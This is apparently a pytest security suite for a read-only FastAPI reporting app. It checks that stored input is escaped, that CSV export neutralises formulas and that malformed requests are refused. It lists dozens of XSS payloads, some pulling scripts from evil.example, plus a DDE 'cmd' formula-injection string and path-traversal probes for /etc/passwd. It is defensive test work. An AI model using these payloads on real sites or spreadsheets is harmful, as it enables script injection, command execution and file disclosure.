"""What an enemy may write into a report or an address: shown as text, or refused with the one error shape."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from fastapi.testclient import TestClient

from .conftest import Held, event_of, reading_of

Serve = Callable[[Held], TestClient]
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{7*7}}{% raw %}<b>",
    "${alert(1)}<b>",
    "javascript:alert(1)//<b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<b>",
    "<\x00script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u202e<script>alert(1)</script>",
    "<x onclick=alert(1) tabindex=1>",
]
FORMULAS = ["=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example")', "\t=1+1"]
ALLOWED = {  # All elements that our own templates use; anything else came out of a report.
    "html",
    "head",
    "meta",
    "title",
    "link",
    "body",
    "nav",
    "a",
    "main",
    "h1",
    "h2",
    "h3",
    "p",
    "form",
    "label",
    "input",
    "button",
    "div",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "style",
    "header",
    "footer",
    "section",
    "ul",
    "li",
    "b",
    "code",
    "svg",
    "defs",
    "pattern",
    "path",
    "rect",
    "circle",
    "polygon",
    "text",
    "g",
    "desc",
    "sup",
    "span",
    "blockquote",
    "mark",
}


class Elements(HTMLParser):
    """Collects what a browser would make elements and attributes of."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}


def check_page(text: str) -> None:
    found = Elements()
    found.feed(text)
    assert found.tags <= ALLOWED, found.tags - ALLOWED
    for name, value in found.attributes:
        assert not name.startswith("on"), name
        if name in ("href", "src", "action"):
            assert value.startswith(("/", "#", "?")), (name, value)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_stored_payloads_are_shown_as_text(payload: str, serve: Serve) -> None:
    readings = [
        reading_of(payload, key=k, title=payload, source=payload, url=payload, name=payload) for k in ("r1", "r2")
    ]
    client = serve(Held(readings, (event_of(*readings, name=payload),)))
    for page in ("/tables/events", "/tables/claims", "/tables/sources", "/tables/contradictions", "/report", "/"):
        answer = client.get(page)
        assert answer.status_code == 200, (page, answer.text)
        assert "script-src 'self'" in answer.headers["content-security-policy"] or page == "/report"
        check_page(answer.text)
    for path in ("/api/v1/events", "/api/v1/claims", "/api/v1/reports", "/api/v1/events/e1", "/api/v1/situation"):
        answer = client.get(path)
        assert answer.status_code == 200
        assert answer.headers["content-type"].startswith("application/json")
        assert answer.headers["x-content-type-options"] == "nosniff"
    (row, *_) = client.get("/api/v1/reports").json()["items"]
    assert row["url"] is None  # No payload may become a link.


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("listing", ["events", "claims", "reports", "contradictions", "sources"])
def test_csv_holds_no_formula(formula: str, listing: str, serve: Serve) -> None:
    readings = [reading_of(formula, key=k, title=formula, source=formula, name=formula) for k in ("r1", "r2")]
    client = serve(Held(readings, (event_of(*readings, name=formula),)))
    answer = client.get(f"/api/v1/{listing}", headers={"accept": "text/csv"})
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert len(rows) > 1
    for value in (cell for row in rows for cell in row):
        assert not value.startswith(("=", "+", "@", "\t", "\r"))
        assert not value.startswith("-") or value[1:].replace(".", "").isdigit()


MALFORMED: list[tuple[str, dict[str, Any]]] = [
    ("/assets/../app.py", {}),
    ("/assets/..%2f..%2fapp.py", {}),
    ("/assets/%2e%2e/%2e%2e/app.py", {}),
    ("/assets//etc/passwd", {}),
    ("/assets/....//....//etc/passwd", {}),
    ("/assets/%00", {}),
    ("/tables/../../etc/passwd", {}),
    ("/tables/nope", {}),
    ("/api/v1/nope", {}),
    ("/api/v2/events", {}),
    ("/api/v1/events/../../x", {}),
    ("/api/v1/events?cursor=x", {}),
    ("/api/v1/events?cursor=LTE", {}),
    ("/api/v1/events?cursor=" + "A" * 200, {}),
    ("/api/v1/events?limit=0", {}),
    ("/api/v1/events?limit=100000", {}),
    ("/api/v1/events?limit=x", {}),
    ("/api/v1/events?bbox=1,2,3", {}),
    ("/api/v1/events?bbox=nan,nan,nan,nan", {}),
    ("/api/v1/events?bbox=0,50,1,40", {}),
    ("/api/v1/events?lat=1", {}),
    ("/api/v1/events?lat=91&lon=0&km=1", {}),
    ("/api/v1/events?lat=0&lon=0&km=-1", {}),
    ("/api/v1/events?since=yesterday", {}),
    ("/api/v1/events?type=nope", {}),
    ("/api/v1/events?since=2024-12-05&until=2024-12-01", {}),
    ("/api/v1/claims?q=" + "a" * 300, {}),
    ("/api/v1/events?q=" + "a" * 20_000, {}),
    ("/api/v1/control?at=2024-13-01", {}),
    ("/api/v1/reports/" + "x" * 90, {}),
    ("/api/v1/events", {"headers": {"accept": "image/png"}}),
    ("/api/v1/events", {"headers": {"host": "evil.example"}}),
    ("/api/v1/events", {"headers": {"host": "localhost.evil.example"}}),
    ("/api/v1/events", {"headers": {"host": ""}}),
    ("/api/v1/events", {"headers": {"origin": "https://evil.example"}}),
    ("/api/v1/events", {"headers": {"origin": "null"}}),
    ("/api/v1/events", {"headers": {"content-length": "99999999"}}),
]


@pytest.mark.parametrize(("path", "extra"), MALFORMED)
def test_malformed_requests_are_refused_in_one_shape(path: str, extra: dict[str, Any], serve: Serve) -> None:
    answer = serve(Held()).get(path, **extra)
    assert 400 <= answer.status_code < 500, (answer.status_code, answer.text[:200])
    error = answer.json()["error"]
    assert set(error) == {"code", "detail", "field"}
    assert error["detail"]
    assert "\n" not in error["detail"]


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE", "OPTIONS"])
def test_nothing_can_be_written(method: str, serve: Serve) -> None:
    answer = serve(Held()).request(method, "/api/v1/events")
    assert answer.status_code == 405
    assert answer.json()["error"]["code"] == "method_not_allowed"


def test_every_answer_carries_the_security_headers(serve: Serve) -> None:
    client = serve(Held())
    for path in ("/", "/api/v1/summary", "/tables/events", "/report", "/nope", "/api/v1/events?limit=x"):
        headers = client.get(path).headers
        assert "default-src 'none'" in headers["content-security-policy"]
        assert "unsafe-eval" not in headers["content-security-policy"]
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        for name in ("x-frame-options", "referrer-policy", "x-content-type-options", "permissions-policy"):
            assert headers[name]
